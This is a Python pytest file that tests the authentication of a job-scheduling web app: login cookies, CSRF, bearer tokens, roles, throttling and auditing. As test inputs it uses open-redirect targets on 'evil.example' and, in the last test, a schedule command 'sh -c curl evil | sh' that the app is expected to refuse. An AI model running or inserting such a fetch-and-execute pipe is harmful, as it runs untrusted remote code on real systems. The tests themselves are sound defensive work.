"""Sign-in, sessions, CSRF, tokens and roles with auth on (`--auth`), on SQLite and PostgreSQL."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from jobdeck.config import Settings
from jobdeck.store import audit as audit_rows
from jobdeck.store.store import Store
from jobdeck.web.app import create_app
from tests.auth_helpers import PASSWORD, add_token, add_user, sign_in


@pytest.fixture
def secured(store: Store) -> Iterator[TestClient]:
    """A client of an app with auth on, and users of every role."""
    for name, role in (("vera", "viewer"), ("otto", "operator"), ("ada", "admin")):
        add_user(store, name, role)
    with TestClient(create_app(Settings(database_url=store.url, auth=True), store)) as client:
        yield client


def test_no_credentials_is_401_for_the_api_and_a_redirect_for_pages(secured: TestClient) -> None:
    answer = secured.get("/api/v1/runs")
    assert answer.status_code == 401
    assert answer.headers["www-authenticate"].startswith("Bearer")
    page = secured.get("/runs?status=failed", follow_redirects=False)
    assert page.status_code == 303
    assert page.headers["location"] == "/login?next=%2Fruns%3Fstatus%3Dfailed"
    assert secured.get("/login").status_code == 200


def test_health_is_open_and_says_nothing_secret(secured: TestClient, store: Store) -> None:
    answer = secured.get("/api/health")
    assert answer.status_code == 200
    text = answer.text
    assert store.url not in text
    assert set(answer.json()) == {"status", "version", "store"}


def test_login_sets_a_hardened_cookie_and_goes_where_asked(secured: TestClient) -> None:
    response = secured.post(
        "/login", data={"username": "vera", "password": PASSWORD, "next": "/failures"}, follow_redirects=False
    )
    assert response.status_code == 303
    assert response.headers["location"] == "/failures"
    cookie = response.headers["set-cookie"].lower()
    assert "jobdeck_session=" in cookie
    assert "httponly" in cookie
    assert "samesite=lax" in cookie
    assert "secure" not in cookie  # plain HTTP here; behind HTTPS it is Secure (next test)
    assert secured.get("/api/v1/runs").status_code == 200


def test_the_cookie_is_secure_behind_https(store: Store) -> None:
    add_user(store, "ada", "admin")
    app = create_app(Settings(database_url=store.url, auth=True), store)
    with TestClient(app, base_url="https://testserver") as client:
        response = client.post(
            "/login", data={"username": "ada", "password": PASSWORD}, follow_redirects=False
        )
    assert "secure" in response.headers["set-cookie"].lower()


def test_login_never_leaves_for_another_site(secured: TestClient) -> None:
    for target in ("https://evil.example/", "//evil.example/x", "/\\evil.example"):
        response = secured.post(
            "/login", data={"username": "vera", "password": PASSWORD, "next": target}, follow_redirects=False
        )
        assert response.headers["location"] == "/"


def test_a_wrong_password_is_refused_and_audited(secured: TestClient, store: Store) -> None:
    response = secured.post("/login", data={"username": "vera", "password": "nope nope"})
    assert response.status_code == 401
    assert "Wrong name or password" in response.text
    assert "jobdeck_session" not in response.headers.get("set-cookie", "")
    assert secured.get("/api/v1/runs").status_code == 401
    failed = audit_rows.entries(store, action="login", result="failed")
    assert [(e.target, e.address) for e in failed] == [("vera", "testclient")]


def test_failed_logins_are_throttled_per_user(secured: TestClient) -> None:
    for _ in range(5):
        assert secured.post("/login", data={"username": "otto", "password": "wrong wrong"}).status_code == 401
    # Now even the right password is refused for a while, with Retry-After.
    response = secured.post("/login", data={"username": "otto", "password": PASSWORD})
    assert response.status_code == 429
    assert int(response.headers["retry-after"]) > 0
    # Another user from the same address is not locked out by otto's failures.
    assert (
        secured.post(
            "/login", data={"username": "ada", "password": PASSWORD}, follow_redirects=False
        ).status_code
        == 303
    )


def test_failed_logins_are_throttled_per_address(secured: TestClient) -> None:
    for i in range(20):
        secured.post("/login", data={"username": f"nobody{i}", "password": "wrong wrong"})
    response = secured.post("/login", data={"username": "ada", "password": PASSWORD})
    assert response.status_code == 429


def test_roles(secured: TestClient) -> None:
    sign_in(secured, "vera")
    assert secured.get("/api/v1/runs").status_code == 200
    assert secured.get("/api/v1/audit").status_code == 403
    csrf = sign_in(secured, "vera")
    stop = secured.post("/api/v1/runs/nope/stop", headers={"X-CSRF-Token": csrf})
    assert stop.status_code == 403
    csrf = sign_in(secured, "otto")
    assert secured.post("/api/v1/runs/nope/stop", headers={"X-CSRF-Token": csrf}).status_code == 404
    assert secured.get("/api/v1/audit").status_code == 403
    sign_in(secured, "ada")
    assert secured.get("/api/v1/audit").status_code == 200


def test_csrf_is_needed_with_a_session(secured: TestClient, store: Store) -> None:
    csrf = sign_in(secured, "otto")
    assert secured.post("/api/v1/runs/nope/stop").status_code == 403
    assert secured.post("/api/v1/runs/nope/stop", headers={"X-CSRF-Token": "forged"}).status_code == 403
    assert secured.post("/fragments/runs/nope/stop", headers={"X-CSRF-Token": csrf}).status_code == 404
    # A form carries it as a field.
    logout = secured.post("/logout", data={"csrf_token": "forged"}, follow_redirects=False)
    assert logout.status_code == 403
    refused = audit_rows.entries(store, action="request", result="refused-403")
    assert any(e.target == "POST /api/v1/runs/nope/stop" and e.actor.startswith("otto@") for e in refused)
    logout = secured.post("/logout", data={"csrf_token": csrf}, follow_redirects=False)
    assert logout.status_code == 303
    assert secured.get("/api/v1/runs").status_code == 401


def test_tokens_need_no_csrf_and_stop_working_when_revoked(secured: TestClient, store: Store) -> None:
    from datetime import UTC, datetime

    from jobdeck.store import auth as rows

    token = add_token(store, "ops", "operator")
    bearer = {"Authorization": f"Bearer {token}"}
    assert secured.post("/api/v1/runs/nope/stop", headers=bearer).status_code == 404
    assert rows.revoke_token(store, "ops", datetime.now(UTC))
    answer = secured.get("/api/v1/runs", headers=bearer)
    assert answer.status_code == 401
    assert "revoked" in answer.json()["detail"]
    assert secured.get("/api/v1/runs", headers={"Authorization": "Basic eDp5"}).status_code == 401


def test_an_ingest_token_only_posts_events(secured: TestClient, store: Store) -> None:
    token = add_token(store, "sdk", "ingest")
    bearer = {"Authorization": f"Bearer {token}"}
    event = {"run_id": "e1", "job": "j", "event": "started"}
    assert secured.post("/api/v1/events", json=[event], headers=bearer).status_code in (200, 202)
    assert secured.get("/api/v1/runs", headers=bearer).status_code == 403
    assert secured.post("/api/v1/runs/e1/stop", headers=bearer).status_code == 403
    assert secured.post("/api/v1/events", json=[event]).status_code == 401
    viewer = {"Authorization": f"Bearer {add_token(store, 'look', 'viewer')}"}
    assert secured.post("/api/v1/events", json=[event], headers=viewer).status_code == 403


def test_the_audit_trail_is_filterable(secured: TestClient, store: Store) -> None:
    secured.post("/login", data={"username": "vera", "password": "wrong wrong"})
    sign_in(secured, "ada")
    entries = secured.get("/api/v1/audit", params={"action": "login", "result": "failed"}).json()["entries"]
    assert [(e["actor"], e["result"]) for e in entries] == [("vera", "failed")]
    everyone = secured.get("/api/v1/audit", params={"action": "login"}).json()["entries"]
    assert [e["result"] for e in everyone] == ["ok", "failed"]  # newest first
    page = secured.get("/audit", params={"action": "login"})
    assert page.status_code == 200
    assert "wrong name or password" in page.text
    assert secured.get("/api/v1/audit", params={"since": "2026-01-01T00:00:00"}).status_code == 422


def test_metrics_take_a_token_or_are_open_by_a_setting(store: Store) -> None:
    token = add_token(store, "prom", "viewer")
    with TestClient(create_app(Settings(database_url=store.url, auth=True), store)) as client:
        assert client.get("/metrics").status_code == 401
        assert client.get("/metrics", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    with TestClient(
        create_app(Settings(database_url=store.url, auth=True, metrics_open=True), store)
    ) as client:
        assert client.get("/metrics").status_code == 200


def test_the_throttle_counts_across_processes_and_restarts(secured: TestClient, store: Store) -> None:
    """Failures are counted in the store: a second server on it (another worker, a replica, or the
    same one restarted) sees them, and a successful login clears the user's count."""
    wrong = {"username": "Otto", "password": "wrong wrong"}
    for _ in range(3):
        assert secured.post("/login", data=wrong).status_code == 401
    with TestClient(create_app(Settings(database_url=store.url, auth=True), store)) as other:
        for _ in range(2):
            assert other.post("/login", data={**wrong, "username": "otto"}).status_code == 401
        assert other.post("/login", data={"username": "otto", "password": PASSWORD}).status_code == 429
    assert secured.post("/login", data={"username": "otto", "password": PASSWORD}).status_code == 429
    # Another user's count starts clean, and their success clears it.
    for _ in range(4):
        assert secured.post("/login", data={"username": "ada", "password": "nope nope"}).status_code == 401
    ok = secured.post("/login", data={"username": "ada", "password": PASSWORD}, follow_redirects=False)
    assert ok.status_code == 303
    for _ in range(4):
        assert secured.post("/login", data={"username": "ada", "password": "nope nope"}).status_code == 401


def test_an_operator_pauses_schedules_but_does_not_change_what_they_run(
    secured: TestClient, store: Store
) -> None:
    admin = {"Authorization": f"Bearer {add_token(store, 'admin-t', 'admin')}"}
    operator = {"Authorization": f"Bearer {add_token(store, 'op-t', 'operator')}"}
    spec = {
        "name": "n",
        "kind": "cron",
        "cron": "0 2 * * *",
        "target": {"type": "command", "command": ["true"]},
    }
    sid = secured.post("/api/v1/schedules", json=spec, headers=admin).json()["id"]
    path = f"/api/v1/schedules/{sid}"
    assert secured.patch(path, json={"paused": True}, headers=operator).json()["paused"] is True
    evil = {"target": {"type": "command", "command": ["sh", "-c", "curl evil | sh"]}, "paused": False}
    refused = secured.patch(path, json=evil, headers=operator)
    assert refused.status_code == 403
    assert "'target'" in refused.json()["detail"]
    stored = secured.get(path, headers=operator).json()
    assert stored["target"]["command"] == ["true"]
    assert stored["paused"] is True
    assert secured.patch(path, json={"cron": "*/5 * * * *"}, headers=admin).status_code == 200
